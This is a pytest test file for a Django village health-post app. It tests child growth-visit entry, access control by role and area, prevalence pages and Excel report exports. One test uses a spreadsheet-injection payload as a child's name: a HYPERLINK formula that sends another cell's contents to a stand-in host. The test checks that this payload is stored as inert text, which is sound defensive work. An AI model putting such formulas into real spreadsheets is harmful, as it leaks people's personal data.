from __future__ import annotations

from datetime import date

import pytest

from balai.accounts.roles import Role
from balai.indicators.services import indicator_refresh_dirty
from balai.indicators.testing import fact
from balai.posyandu.models import ChildVisit, Posyandu
from balai.posyandu.tests.conftest import TODAY, visit
from conftest import DESA_PATTIMANG, DESA_PINCARA, KAB_LUTRA, KEC_MALANGKE, KEC_MASAMBA, login

pytestmark = pytest.mark.django_db


def form(**extra):
    data = {"visit_date": "2025-06-20", "weight_kg": "9,2", "lenhei_cm": "74.5", "measure": "L"}
    data.update(extra)
    return data


def test_cadre_enters_a_visit_and_it_is_scored(cadre, posyandu, make_child):
    child = make_child(posyandu, date(2024, 6, 1))
    client = login(cadre)
    url = f"/posyandu/{posyandu.pk}/anak/{child.pk}/kunjungan/"
    page = client.get(url)
    assert page.status_code == 200
    response = client.post(url, form())
    assert response.status_code == 302
    v = ChildVisit.objects.get(resident=child)
    assert (v.weight_kg, v.lenhei_cm, v.age_days) == (
        v.weight_kg.__class__("9.20"),
        v.lenhei_cm.__class__("74.5"),
        384,
    )
    assert v.zlen is not None and v.status_tbu
    assert v.recorded_by == cadre
    assert fact("posyandu.cakupan", DESA_PINCARA, "2025-06")[0] == 1


def test_preview_shows_zscores_as_soon_as_typed_and_saves_nothing(cadre, posyandu, make_child):
    child = make_child(posyandu, date(2024, 6, 1))
    response = login(cadre).post(
        f"/posyandu/{posyandu.pk}/anak/{child.pk}/pratinjau/", form(), HTTP_HX_REQUEST="true"
    )
    body = response.content.decode()
    assert response.status_code == 200
    assert 'data-testid="z-zlen"' in body and "<html" not in body
    assert ChildVisit.objects.count() == 0


def test_preview_of_partial_input_is_not_an_error(cadre, posyandu, make_child):
    child = make_child(posyandu, date(2024, 6, 1))
    response = login(cadre).post(
        f"/posyandu/{posyandu.pk}/anak/{child.pk}/pratinjau/",
        {"visit_date": "2025-06-20", "weight_kg": "9,"},
    )
    assert response.status_code == 200


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (form(visit_date="2025-07-01"), "masa depan"),
        (form(visit_date="2024-01-01"), "sebelum tanggal lahir"),
        (form(weight_kg="0"), "lebih dari 0"),
        (form(weight_kg="95"), "tidak masuk akal"),
        (form(lenhei_cm="-3"), "lebih dari 0"),
        (form(weight_kg="abc"), "bilangan"),
    ],
)
def test_bad_input_is_refused_with_a_clear_message(cadre, posyandu, make_child, data, message):
    child = make_child(posyandu, date(2024, 6, 1))
    response = login(cadre).post(f"/posyandu/{posyandu.pk}/anak/{child.pk}/kunjungan/", data)
    assert response.status_code == 200
    assert message in response.content.decode()
    assert ChildVisit.objects.count() == 0


def test_standing_under_nine_months_is_refused(cadre, posyandu, make_child):
    baby = make_child(posyandu, date(2025, 1, 1))
    response = login(cadre).post(
        f"/posyandu/{posyandu.pk}/anak/{baby.pk}/kunjungan/",
        form(weight_kg="7", lenhei_cm="66", measure="H"),
    )
    assert "di bawah 9 bulan diukur berbaring" in response.content.decode()
    assert ChildVisit.objects.count() == 0


def test_age_60_months_is_said_plainly(operator, posyandu, make_child):
    old = make_child(None, date(2020, 5, 1), area=f"{DESA_PINCARA}.01")
    visit_date = date(2025, 6, 1)
    response = login(operator).post(
        f"/posyandu/{posyandu.pk}/anak/{old.pk}/kunjungan/", form(visit_date=visit_date.isoformat())
    )
    # Not enrolled and not measured: not a posyandu child at all.
    assert response.status_code == 404
    assert ChildVisit.objects.count() == 0


def test_implausible_values_need_confirmation(cadre, posyandu, make_child):
    child = make_child(posyandu, date(2024, 6, 1))
    url = f"/posyandu/{posyandu.pk}/anak/{child.pk}/kunjungan/"
    client = login(cadre)
    response = client.post(url, form(lenhei_cm="50.0"))
    assert "di luar batas wajar WHO" in response.content.decode()
    assert 'name="confirm"' in response.content.decode()
    assert ChildVisit.objects.count() == 0
    assert client.post(url, form(lenhei_cm="50.0", confirm="on")).status_code == 302
    assert ChildVisit.objects.get().flag_zlen is True


def test_cadre_of_another_posyandu_gets_404_and_nothing_changes(
    make_user, posyandu, other_posyandu, make_child
):
    from balai.posyandu import services

    other_cadre = make_user(Role.POSYANDU_CADRE, DESA_PINCARA, username="kader_melati")
    services.cadre_link(actor=None, posyandu=other_posyandu, user=other_cadre)
    child = make_child(posyandu, date(2024, 6, 1))
    client = login(other_cadre)
    assert client.get(f"/posyandu/{posyandu.pk}/").status_code == 404
    assert (
        client.post(f"/posyandu/{posyandu.pk}/anak/{child.pk}/kunjungan/", form()).status_code
        == 404
    )
    assert (
        client.post(f"/posyandu/{other_posyandu.pk}/anak/{child.pk}/kunjungan/", form()).status_code
        == 404
    )
    assert client.get(f"/posyandu/anak/{child.pk}/").status_code == 404
    assert ChildVisit.objects.count() == 0
    assert [p.pk for p in client.get("/posyandu/").context["posyandus"]] == [other_posyandu.pk]


def test_unlinked_cadre_sees_no_posyandu(make_user, posyandu):
    lonely = make_user(Role.POSYANDU_CADRE, DESA_PINCARA, username="kader_lepas")
    response = login(lonely).get("/posyandu/")
    assert list(response.context["posyandus"]) == []
    assert "belum ditautkan" in response.content.decode()


def test_operator_of_another_village_cannot_record(other_operator, posyandu, make_child):
    child = make_child(posyandu, date(2024, 6, 1))
    client = login(other_operator)
    assert (
        client.post(f"/posyandu/{posyandu.pk}/anak/{child.pk}/kunjungan/", form()).status_code
        == 404
    )
    assert ChildVisit.objects.count() == 0


def test_camat_may_view_but_not_record(camat, posyandu, make_child):
    child = make_child(posyandu, date(2024, 6, 1))
    visit(posyandu, child, date(2025, 6, 2), "9.0", "74.0", "L")
    client = login(camat)
    assert client.get(f"/posyandu/anak/{child.pk}/").status_code == 200
    assert (
        client.post(f"/posyandu/{posyandu.pk}/anak/{child.pk}/kunjungan/", form()).status_code
        == 403
    )
    assert ChildVisit.objects.count() == 1


def test_child_not_in_the_posyandu_village_is_refused(operator, posyandu, far_posyandu, make_child):
    from balai.core.errors import DomainError
    from balai.posyandu import services

    far_child = make_child(far_posyandu, date(2024, 6, 1), area=f"{DESA_PATTIMANG}.01")
    with pytest.raises(DomainError, match="tidak tinggal di desa"):
        services.child_visit_record(
            actor=None,
            posyandu=posyandu,
            resident=far_child,
            data=services.ChildVisitData(visit_date=date(2025, 6, 1), weight_kg=None),
        )
    assert ChildVisit.objects.count() == 0


def test_child_page_has_growth_charts_and_a_pdf(operator, posyandu, make_child):
    child = make_child(posyandu, date(2024, 6, 1))
    visit(posyandu, child, date(2025, 5, 2), "8.8", "73.0", "L")
    client = login(operator)
    body = client.get(f"/posyandu/anak/{child.pk}/").content.decode()
    for key in ("lhfa", "wfa", "wfl"):
        assert f'data-chart="{key}"' in body
    assert body.count("<circle") >= 3
    assert "02-05-2025: 8,8</title>" in body  # Indonesian decimal comma in the charts
    assert "8.8</title>" not in body
    pdf = client.get(f"/posyandu/anak/{child.pk}/kms.pdf")
    assert pdf["Content-Type"] == "application/pdf" and pdf.content.startswith(b"%PDF")


def test_prevalence_page_shows_counts_and_the_target_marker(camat, posyandu, make_child):
    kids = [make_child(posyandu, date(2023, 5, d)) for d in (1, 2)]
    visit(posyandu, kids[0], date(2025, 6, 3), "10.0", "75.0", "H")  # stunted
    visit(posyandu, kids[1], date(2025, 6, 3), "11.0", "87.0", "H")
    indicator_refresh_dirty()  # what the task enqueued on commit does
    response = login(camat).get(f"/posyandu/prevalensi/{KEC_MASAMBA}/?periode=2025-06")
    page = response.context["page"]
    assert (page.total.counts["stunted"], page.total.counts["with_zlen"]) == (1, 2)
    assert page.total.above_target is True
    assert "di atas target 14%" in response.content.decode()
    assert page.total.under_five == 2
    assert [sub.code for sub, _f in page.rows] == [DESA_PINCARA]
    quarter = (
        login(camat).get(f"/posyandu/prevalensi/{KEC_MASAMBA}/?periode=2025-Q2").context["page"]
    )
    assert quarter.total.counts["with_zlen"] == 2


def test_prevalence_outside_scope_is_403(camat):
    assert login(camat).get(f"/posyandu/prevalensi/{KEC_MALANGKE}/").status_code == 403
    assert login(camat).get(f"/posyandu/prevalensi/{KAB_LUTRA}/").status_code == 403


def test_bad_period_is_a_message_not_a_500(camat):
    response = login(camat).get(f"/posyandu/prevalensi/{KEC_MASAMBA}/?periode=kemarin")
    assert response.status_code == 200
    assert "tidak dikenal" in response.content.decode()


def test_prevalence_page_query_count_is_constant(
    camat, posyandu, make_child, django_assert_max_num_queries
):
    kids = [make_child(posyandu, date(2023, 5, d)) for d in range(1, 6)]
    for kid in kids:
        visit(posyandu, kid, date(2025, 6, 3), "10.0", "80.0", "H")
    client = login(camat)
    with django_assert_max_num_queries(12):
        client.get(f"/posyandu/prevalensi/{KEC_MASAMBA}/?periode=2025-06")


def test_followup_lists_stunted_2t_and_not_weighed(operator, posyandu, make_child):
    stunted = make_child(posyandu, date(2023, 5, 1), name="Anak Pendek")
    visit(posyandu, stunted, date(2025, 6, 3), "10.0", "75.0", "H")
    falter = make_child(posyandu, date(2024, 1, 1), name="Anak 2T")
    visit(posyandu, falter, date(2025, 4, 3), "9.0")
    visit(posyandu, falter, date(2025, 5, 3), "9.0")
    visit(posyandu, falter, date(2025, 6, 3), "9.1")
    absent = make_child(posyandu, date(2024, 1, 1), name="Anak Absen")
    visit(posyandu, absent, date(2025, 3, 3), "9.0")
    response = login(operator).get(f"/posyandu/tindak-lanjut/{DESA_PINCARA}/")
    f = response.context["f"]
    assert [v.resident.name for v in f.stunted] == ["ANAK PENDEK"]
    assert [v.resident.name for v in f.faltering] == ["ANAK 2T"]
    assert [c.name for c, _last in f.not_weighed] == ["ANAK ABSEN"]


def test_scorecard_page_renders_for_the_village(operator, posyandu, make_child):
    child = make_child(posyandu, date(2024, 10, 1))
    visit(posyandu, child, date(2025, 5, 3), "7.0")
    response = login(operator).get(f"/posyandu/kartu-skor/{DESA_PINCARA}/?triwulan=2025-Q2")
    assert response.status_code == 200
    assert response.context["card"].target_count == 1
    bad = login(operator).get(f"/posyandu/kartu-skor/{DESA_PINCARA}/?triwulan=2025-13")
    assert bad.status_code == 200


def test_monthly_report_lists_latest_visit_with_masked_nik_for_camat(camat, posyandu, make_child):
    from io import BytesIO

    from openpyxl import load_workbook

    child = make_child(posyandu, date(2024, 1, 1))
    visit(posyandu, child, date(2025, 6, 2), "9.0", "74.0", "L")
    visit(posyandu, child, date(2025, 6, 16), "9.1", "74.2", "L")
    response = login(camat).get(f"/posyandu/laporan/{KEC_MASAMBA}/?periode=2025-06")
    book = load_workbook(BytesIO(b"".join(response.streaming_content)))
    rows = list(book.active.iter_rows(values_only=True))
    book.close()
    assert len(rows) == 3  # title, header, one child
    assert rows[2][2] == child.name and rows[2][10] == 9.1
    assert rows[2][1] != child.nik
    assert "no-store" in response["Cache-Control"]


def test_monthly_report_writes_a_formula_like_name_as_text_and_leaves_no_file(
    operator, posyandu, make_child, settings, tmp_path
):
    import zipfile
    from io import BytesIO

    from openpyxl import load_workbook

    settings.VAR_DIR = tmp_path
    name = '=HYPERLINK("http://contoh.invalid/?d="&B3,"Klik")'
    child = make_child(posyandu, date(2024, 1, 1), name=name, mother_name="-2+3")
    visit(posyandu, child, date(2025, 6, 2), "9.0", "74.0", "L")
    response = login(operator).get(f"/posyandu/laporan/{DESA_PINCARA}/?periode=2025-06")
    content = b"".join(response.streaming_content)
    response.close()
    with zipfile.ZipFile(BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula cell at all
    book = load_workbook(BytesIO(content))
    cells = next(iter(book.active.iter_rows(min_row=3, max_row=3)))
    assert (cells[2].value, cells[2].data_type) == (name.upper(), "s")  # registry.names
    assert cells[2].quotePrefix  # stays text when the cell is edited
    assert (cells[5].value, cells[5].data_type) == ("-2+3", "s")
    assert cells[10].value == 9.0 and cells[10].data_type == "n"
    assert list((tmp_path / "exports").iterdir()) == []  # nothing left on disk


def test_manager_creates_posyandu_and_links_cadre(operator, make_user):
    client = login(operator)
    response = client.post(
        "/posyandu/baru/", {"area": f"{DESA_PINCARA}.01", "name": "Posyandu Anggrek"}
    )
    p = Posyandu.objects.get(name="Posyandu Anggrek")
    assert response.status_code == 302
    make_user(Role.POSYANDU_CADRE, DESA_PINCARA, username="kader_baru")
    client.post(f"/posyandu/{p.pk}/kader/", {"username": "kader_baru"})
    assert p.cadres.filter(user__username="kader_baru").exists()


def test_cadre_cannot_create_posyandu(cadre):
    response = login(cadre).post("/posyandu/baru/", {"area": DESA_PINCARA, "name": "X"})
    assert response.status_code == 403
    assert not Posyandu.objects.filter(name="X").exists()


def test_operator_cannot_create_posyandu_in_another_village(operator):
    response = login(operator).post("/posyandu/baru/", {"area": DESA_PATTIMANG, "name": "X"})
    assert response.status_code == 403
    assert not Posyandu.objects.filter(name="X").exists()


def test_day_screen_lists_expected_children(cadre, posyandu, make_child):
    a = make_child(posyandu, date(2024, 1, 1), name="Ani")
    make_child(posyandu, date(2024, 2, 1), name="Budi")
    visit(posyandu, a, TODAY, "9.0")
    response = login(cadre).get(f"/posyandu/{posyandu.pk}/")
    rows = response.context["rows"]
    assert [(r["child"].name, r["done"]) for r in rows] == [("ANI", True), ("BUDI", False)]


def test_malformed_posyandu_parameter_is_404_not_500(operator):
    assert (
        login(operator).get(f"/posyandu/tindak-lanjut/{DESA_PINCARA}/?posyandu=abc").status_code
        == 404
    )


def test_dusun_cadre_is_sent_to_the_village_figures_and_refused(make_user, posyandu):
    dusun_cadre = make_user(Role.POSYANDU_CADRE, f"{DESA_PINCARA}.01", username="kader_dusun")
    client = login(dusun_cadre)
    response = client.get(f"/posyandu/prevalensi/{DESA_PINCARA}.01/")
    assert response.status_code == 302
    assert client.get(response["Location"]).status_code == 403


def test_prevalence_opens_on_the_last_complete_month_with_coverage_ds(camat, posyandu, make_child):
    kids = [make_child(posyandu, date(2023, 5, d)) for d in (1, 2, 3, 4)]
    visit(posyandu, kids[0], date(2025, 5, 3), "10.0", "75.0", "H")  # May: stunted
    visit(posyandu, kids[1], date(2025, 5, 3), "11.0", "87.0", "H")  # May
    visit(posyandu, kids[2], date(2025, 6, 3), "11.0", "87.0", "H")  # June, half entered
    indicator_refresh_dirty()
    response = login(camat).get(f"/posyandu/prevalensi/{KEC_MASAMBA}/")  # today: 20 June
    assert response.context["period"].key == "2025-05"
    page = response.context["page"]
    assert (page.total.counts["stunted"], page.total.counts["with_zlen"]) == (1, 2)
    # D/S from the posyandu.cakupan facts: 2 children weighed of 4 registered.
    assert fact("posyandu.cakupan", KEC_MASAMBA, "2025-05") == (2, 4)
    assert (page.total.counts["measured"], page.total.under_five) == (2, 4)
    body = response.content.decode()
    assert "bulan lengkap terakhir" in body
    coverage = body.split('data-testid="coverage"')[1].split("</p>")[0]
    assert "50,0%" in coverage and "cakupan D/S" in coverage and "(2 / 4)" in coverage


def test_child_page_shows_growth_status_in_words_not_codes(operator, posyandu, make_child):
    child = make_child(posyandu, date(2024, 6, 1))
    visit(posyandu, child, date(2025, 5, 2), "8.8", "73.0", "L")
    body = login(operator).get(f"/posyandu/anak/{child.pk}/").content.decode()
    saved = ChildVisit.objects.get(resident=child)
    assert saved.status_bbtb == "gizi_baik" and saved.status_tbu == "normal"
    assert "Gizi baik" in body
    assert "gizi_baik" not in body


def test_scorecard_page_speaks_indonesian(operator, posyandu):
    body = login(operator).get(f"/posyandu/kartu-skor/{DESA_PINCARA}/").content.decode()
    assert "Kartu skor konvergensi desa" in body
    assert "Scorecard" not in body
